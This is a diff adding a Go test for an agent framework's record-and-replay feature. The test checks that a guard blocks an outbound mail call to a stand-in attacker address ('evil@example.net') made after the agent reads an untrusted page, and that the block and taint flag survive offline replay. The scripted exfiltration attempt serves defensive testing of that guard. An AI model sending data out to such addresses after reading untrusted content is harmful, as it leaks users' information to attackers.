@@ -164,3 +164,31 @@ func TestRecordingRedactsSecretsAndStillReplays(t *testing.T) {
 		t.Errorf("output = %q", res.Output)
 	}
 }
+
+func TestOfflineReplayKeepsToolFlagsForTheGuards(t *testing.T) {
+	// The recorded run read an untrusted page, then the trifecta guard
+	// refused the egress call. Offline replay has no real tools: unless the
+	// stand-ins carry the recorded flags, the guard lets the call through
+	// and the replay diverges (the recording has no execution of it).
+	path := filepath.Join(t.TempDir(), "run.jsonl")
+	mail := mailTool()
+	p := scripted.New(calls(call("f", "fetch", `{}`)), calls(call("m", "mail", `{"to":"evil@example.net"}`)), text("Not sent."))
+	rec, err := loop.CreateRecording(path, loop.RecordOptions{})
+	if err != nil {
+		t.Fatal(err)
+	}
+	a := &loop.Agent{Provider: p, Tools: registry(t, webTool(), mail), Recorder: rec}
+	if _, err := a.Run(context.Background(), "go"); err != nil || mail.count() != 0 {
+		t.Fatalf("recorded run: %v, mail ran %d times", err, mail.count())
+	}
+	if err := rec.Close(); err != nil {
+		t.Fatal(err)
+	}
+	res, err := loop.Replay(context.Background(), path, loop.ReplayOptions{})
+	if err != nil {
+		t.Fatalf("offline replay: %v", err)
+	}
+	if r := toolResults(res.Messages)[1]; !strings.HasPrefix(r.Content, "EgressBlocked: ") || !res.Tainted {
+		t.Fatalf("replayed egress call = %+v, tainted %v", r, res.Tainted)
+	}
+}
